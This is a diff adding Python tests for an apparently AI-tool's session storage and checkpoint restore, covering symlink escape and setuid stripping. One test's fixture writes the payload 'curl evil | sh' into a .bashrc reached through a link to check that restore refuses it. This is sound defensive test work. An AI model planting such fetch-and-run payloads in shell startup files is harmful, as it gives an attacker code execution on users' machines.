@@ -28,6 +28,7 @@ from actors.protocol import (
 )
 from actors.session_store import read_events, session_path
 from actors.session_store.files import import_events
+from actors.tool_executor.checkpoints import restore
 from frontends.session import memory_store, session_store, ui_actor
 from frontends.session_options import SessionOptions
 from runtime import ActorCrashed, supervise
@@ -95,6 +96,21 @@ async def test_each_saved_batch_is_shown_as_saved_under_the_sdks_path(
         "SessionStarted",
         "MessageAdded",
     ]
+
+
+async def test_a_project_given_from_another_folder_is_keyed_by_the_project(
+    tmp_path: Path, in_project: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # `legato path/to/project`: the session is the project's, whatever folder it was run from,
+    # so that another project's sessions started there never share its key.
+    (tmp_path / "elsewhere").mkdir()
+    monkeypatch.chdir(tmp_path / "elsewhere")
+    shown = Shown()
+    memory, ui, store = mirrored(tmp_path, shown)
+    async with supervise([memory, ui, store]):
+        await store.address.ask(SaveEvents(events=(MessageAdded(user("one")),)))
+    frames = [event for event in shown.events if isinstance(event, TranscriptMirrored)]
+    assert [frame.file_path for frame in frames] == [in_project]
 
 
 async def test_a_session_only_the_store_has_is_taken_in_and_not_mirrored_back(
@@ -171,6 +187,44 @@ def test_a_stored_checkpoint_restores_no_file_outside_the_project(tmp_path: Path
         MessageAdded(user("hi")),
     ]
     assert read_events(str(tmp_path / "sessions" / "s.jsonl")) == saved
+
+
+def test_a_stored_file_whose_path_leads_out_through_a_link_is_not_restored(
+    tmp_path: Path,
+) -> None:
+    # The project holds a link out of it (a cloned repository may): a stored entry that names
+    # a file through it, without where it led when it was recorded, would be written there.
+    root, home = tmp_path / "p", tmp_path / "home"
+    root.mkdir()
+    home.mkdir()
+    (home / ".bashrc").write_text("mine\n")
+    (root / "link").symlink_to(home)
+    through = FileBefore(path=str(root / "link" / ".bashrc"), content=b"curl evil | sh")
+    lying = FileBefore(
+        path=str(root / "link" / ".bashrc"), content=b"x", real=str(root / "link" / ".bashrc")
+    )
+    source = tmp_path / "stored.jsonl"
+    taken = CheckpointTaken(Checkpoint(prompt=1, files=(through, lying)))
+    source.write_bytes(msgspec.json.encode(taken) + b"\n")
+    (saved,) = import_events(str(source), None, str(root))
+    assert isinstance(saved, CheckpointTaken)
+    restore(saved.checkpoint.files, str(root))
+    assert (home / ".bashrc").read_text() == "mine\n"
+
+
+def test_a_stored_file_is_restored_with_its_permission_bits_only(tmp_path: Path) -> None:
+    root = tmp_path / "p"
+    root.mkdir()
+    tool = str(root / "tool")
+    setuid = FileBefore(path=tool, content=b"\x7fELF", real=tool, by="rm tool", mode=0o4755)
+    source = tmp_path / "stored.jsonl"
+    source.write_bytes(
+        msgspec.json.encode(CheckpointTaken(Checkpoint(prompt=1, files=(setuid,)))) + b"\n"
+    )
+    (saved,) = import_events(str(source), None, str(root))
+    assert isinstance(saved, CheckpointTaken)
+    restore(saved.checkpoint.files, str(root))
+    assert os.stat(tool).st_mode & 0o7777 == 0o755
 
 
 def test_a_symlink_where_the_session_goes_is_not_written_through(tmp_path: Path) -> None:
